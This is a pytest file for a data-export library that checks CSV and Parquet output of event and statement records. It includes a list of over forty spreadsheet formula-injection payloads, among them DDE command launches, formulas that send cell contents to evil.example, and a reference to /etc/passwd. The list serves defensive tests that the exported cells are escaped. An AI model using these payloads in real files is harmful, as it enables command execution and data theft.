"""CSV and Parquet: what stands in a cell, what a spreadsheet makes of it, and that nothing is lost on the way."""

from __future__ import annotations

import csv
import io
import math
import random
import re
from pathlib import Path
from typing import Any

import pytest

from onrecord import __version__, wire
from onrecord.export import (
    acled,
    csv_events,
    csv_statements,
    gdelt_events,
    gdelt_mentions,
    icews,
    parquet,
    polecat,
)
from onrecord.export.cells import safe, write_csv
from onrecord.export.claims import claims
from onrecord.ledger.extracts import Extract
from onrecord.records import Record
from tests.export.claimed import hostile, membership, of, port, written
from tests.factory import Factory

# What opens a formula, a command or a link in one spreadsheet or another, alone and behind what they drop.
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=SUM(A1:A9)*cmd|'/c calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example?v=",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "='file:///etc/passwd'#$passwd.A1",
    "=-1",
    "==1",
    "=+1",
    "+1+1",
    "+cmd|'/C calc'!A0",
    "+49 30 123456",
    "-1+1",
    "-2+3+cmd|'/C calc'!D2",
    "--1",
    '-HYPERLINK("http://evil.example")',
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@foo",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\n\n@x",
    " =1+1",
    "   +1",
    "\xa0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    '"=1+1"',
    "'=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "x,=1+1",
    "x;=1+1",
    "x|@SUM(1)",
    "a\n=1+1",
    "a\t-cmd",
    ' "=1+1',
    "; =1",
    'x," +1',
]


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet may take a cell for a formula: read here by its own, simpler rule, piece by piece."""
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    return any(
        piece.lstrip(' "\u00a0\ufeff\u200b\x00')[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20")
        and piece.lstrip(' "\u00a0\ufeff\u200b\x00') != ""
        for piece in re.split(r"[,;|\t\r\n]", cell)
    )


def typed(cell: str) -> bool:
    """A number that we wrote ourselves (a latitude, say) is one."""
    return re.fullmatch(r"-?\d+(\.\d+)?", cell) is not None


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def statements(record: Record) -> list[Extract]:
    return [Extract(record, tuple(a.id for a in record.attributions), {})]


def test_the_formulas_are_at_least_forty_and_all_are_ones():
    assert len(set(FORMULAS)) >= 40
    assert [f for f in FORMULAS if not is_formula(f) and not f.startswith("'")] == []


@pytest.mark.parametrize("formula", FORMULAS, ids=[str(n) for n in range(len(FORMULAS))])
def test_no_cell_is_a_formula(formula: str) -> None:
    record = hostile(formula)
    found = list(claims(record, None, membership(record, "v1")))
    tables = {
        "csv-events": rows_of(written(csv_events, found)),
        "csv-statements": rows_of(written(csv_statements, statements(record))),
        "acled": rows_of(written(acled, [tuple(found)])),
        "polecat": [line.split("\t") for line in written(polecat, found).split("\n")],
        "icews": [line.split("\t") for line in written(icews, found).split("\n")],
        "gdelt-events": [line.split("\t") for line in written(gdelt_events, [tuple(found)]).split("\n")],
        "gdelt-mentions": [line.split("\t") for line in written(gdelt_mentions, [tuple(found)]).split("\n")],
    }
    for name, rows in tables.items():
        cells = [cell for row in rows for cell in row]
        assert len(cells) > 15, name
        assert [c for c in cells if is_formula(c) and not typed(c)] == [], name


@pytest.mark.parametrize("formula", FORMULAS, ids=[str(n) for n in range(len(FORMULAS))])
def test_formulas_are_left_as_they_are_where_that_is_asked_for(formula: str) -> None:
    record = hostile(formula)
    made = list(csv.DictReader(io.StringIO(written(csv_events, of(record), raw=True), newline="")))
    assert made[0]["title"] == formula


@pytest.mark.parametrize(
    ("words", "shown"),
    [
        ("Toren said 3-4 people left", "Toren said 3-4 people left"),
        ("a@b.example", "a@b.example"),
        ("2+2=4", "2+2=4"),
        ("x - y", "x - y"),
        # What is cut at a separator begins anew behind it.
        ("a, -b", "a,' -b"),
        ("", ""),
    ],
)
def test_ordinary_words_are_left_alone(words: str, shown: str) -> None:
    assert safe(words) == shown


def test_numbers_are_numbers_and_what_turns_the_page_is_spelled_out():
    file = io.StringIO()
    write_csv(("a", "b", "c", "d"), [(-3.5, "x\u202ey", True, None)], file)
    assert file.getvalue() == "a,b,c,d\n-3.5,x⟨U+202E⟩y,true,\n"


def test_csv_is_read_back_as_it_was_whatever_the_words_are():
    made = random.Random(7)
    alphabet = "ab \",;\n\r\t'é\U0001f600"
    rows = [["".join(made.choices(alphabet, k=made.randrange(9))) for _ in range(3)] for _ in range(300)]
    file = io.StringIO()
    write_csv(("a", "b", "c"), rows, file, raw=True)
    assert rows_of(file.getvalue())[1:] == rows


def test_a_line_of_events_says_who_did_what_how_it_is_held_and_according_to_whom():
    record = port()
    found = list(claims(record, None, membership(record, "v1")))
    made = {row["id"].partition("/")[2]: row for row in csv.DictReader(io.StringIO(written(csv_events, found)))}
    assert list(made) == ["v1", "v2", "v3", "v4", "v5", "v6", "v7"]
    assert {k: row["held"] for k, row in made.items()} == {
        "v1": "told",
        "v2": "alleged",
        "v3": "denied",
        "v4": "attributed",
        "v5": "not_happened",
        "v6": "told",
        "v7": "told",
    }
    v1, v3, v4 = made["v1"], made["v3"], made["v4"]
    assert (v1["incident"], v3["incident"]) == ("i_0000000000000000", "")
    assert (v1["begin"], v1["dated"], v1["counts"], v1["killed"]) == ("2024-03-03", "true", "at_least 4 killed", "4")
    assert record.document.text[int(v1["start"]) : int(v1["stop"])] == v1["trigger"] == "Explosions"
    assert (v3["polarity"], v3["stances"], v3["actors"]) == ("negative", "denies", "Teskan's government")
    assert v4["according_to"] == "Coast News ← two Teskani security officials (unnamed)"
    assert (v4["dated"], v4["begin"]) == ("false", "2024-03-04")


def test_a_line_of_statements_says_who_says_what_through_whom():
    record = port()
    made = list(csv.DictReader(io.StringIO(written(csv_statements, statements(record)))))
    text = record.document.text
    assert [row["stance"] for row in made] == ["accuses", "asserts", "denies", "asserts", "asserts", "warns"]
    for row in made:
        words = text[int(row["start"]) : int(row["stop"])]
        assert " ".join(words.split()) == row["content"]
    nested = made[4]
    assert (nested["speaker"], nested["speaker_kind"], nested["speaker_count"]) == (
        "two Teskani security officials", "unnamed", "2",
    )  # fmt: skip
    assert (nested["chain"], nested["within"], nested["events"]) == (
        "Coast News ← two Teskani security officials (unnamed)", "a4", "v4",
    )  # fmt: skip
    assert (made[1]["addressees"], made[1]["channel"]) == ("reporters", "briefing")


# Parquet


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    pytest.importorskip("pyarrow", reason="Parquet needs pyarrow: pip install 'onrecord[parquet]'")
    return tmp_path / "tables"


def read(folder: Path, table: str) -> Any:
    from pyarrow import parquet as file

    return file.read_table(folder / f"{table}.parquet")


def test_parquet_has_the_tables_types_and_versions_that_are_told(folder: Path) -> None:
    parquet.write([port()], folder)
    assert sorted(p.name for p in folder.iterdir()) == sorted(f"{name}.parquet" for name in parquet.TABLES)
    from pyarrow import parquet as file

    for name, columns in parquet.TABLES.items():
        made = file.ParquetFile(folder / f"{name}.parquet")
        assert [field.name for field in made.schema_arrow] == list(columns)
        metadata = made.schema_arrow.metadata
        assert metadata[b"onrecord.format"] == str(wire.FORMAT).encode()
        assert metadata[b"onrecord.version"] == __version__.encode()
        if made.metadata.num_rows:
            assert {made.metadata.row_group(0).column(n).compression for n in range(made.metadata.num_columns)} == {
                "ZSTD"
            }
    events = read(folder, "events").schema
    assert str(events.field("begin").type) == "string"
    assert str(events.field("latitude").type) == "double"
    assert str(events.field("dated").type) == "bool"
    assert str(events.field("trigger").type).startswith("struct<start: int32, end: int32, text: string>")


def test_parquet_keeps_every_record_and_every_character(folder: Path) -> None:
    reports = [port(), port(source="=1+1", outlet="=cmd|'/C calc'!A0")]
    parquet.write(reports, folder)
    text = {d["id"]: d["text"] for d in read(folder, "documents").to_pylist()}
    assert text == {r.document.id: r.document.text for r in reports}
    # Exact: nothing is put before what a spreadsheet would calculate.
    assert {d["outlet"] for d in read(folder, "documents").to_pylist()} == {"Coast News", "=cmd|'/C calc'!A0"}
    for name in ("entities", "times", "attributions", "events", "relations", "quantities", "notices"):
        made = read(folder, name)
        assert made.num_rows == sum(len(getattr(r, name)) for r in reports), name
        for row in made.to_pylist():
            for span in spans(row):
                assert text[row["document"]][span["start"] : span["end"]] == span["text"]
    held = {(e["document"], e["id"]): e["held"] for e in read(folder, "events").to_pylist()}
    assert held == {(r.document.id, c.event.id): c.standing for r in reports for c in claims(r)}


def spans(value: Any) -> list[dict[str, Any]]:
    if isinstance(value, list):
        return [s for v in value for s in spans(v)]
    if isinstance(value, dict):
        own = [value] if {"start", "end", "text"} <= set(value) else []
        return own + [s for v in value.values() for s in spans(v)]
    return []


def test_parquet_of_nothing_has_its_tables(folder: Path) -> None:
    parquet.write([], folder)
    assert all(read(folder, name).num_rows == 0 for name in parquet.TABLES)


def test_parquet_takes_numbers_that_no_column_holds(folder: Path) -> None:
    made = Factory("Rain\n\nRain killed many. It cost much.")
    made.event("killed", "ASSAULT", counts=(("killed", 10**30, "about", "many"),))
    made.quantity(1e308 * 10, "much")
    made.quantity(10**400, "cost")
    parquet.write([made.record()], folder)
    (event,) = read(folder, "events").to_pylist()
    assert event["counts"][0]["value"] == 2**63 - 1
    assert all(math.isfinite(q["value"]) for q in read(folder, "quantities").to_pylist())


def test_parquet_is_written_in_groups_of_rows(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(parquet, "_GROUP", 3)
    parquet.write([port(source=str(n)) for n in range(5)], folder)
    from pyarrow import parquet as file

    made = file.ParquetFile(folder / "events.parquet")
    assert made.metadata.num_rows == 35
    assert made.metadata.num_row_groups > 5
    assert len({(e["document"], e["id"]) for e in read(folder, "events").to_pylist()}) == 35
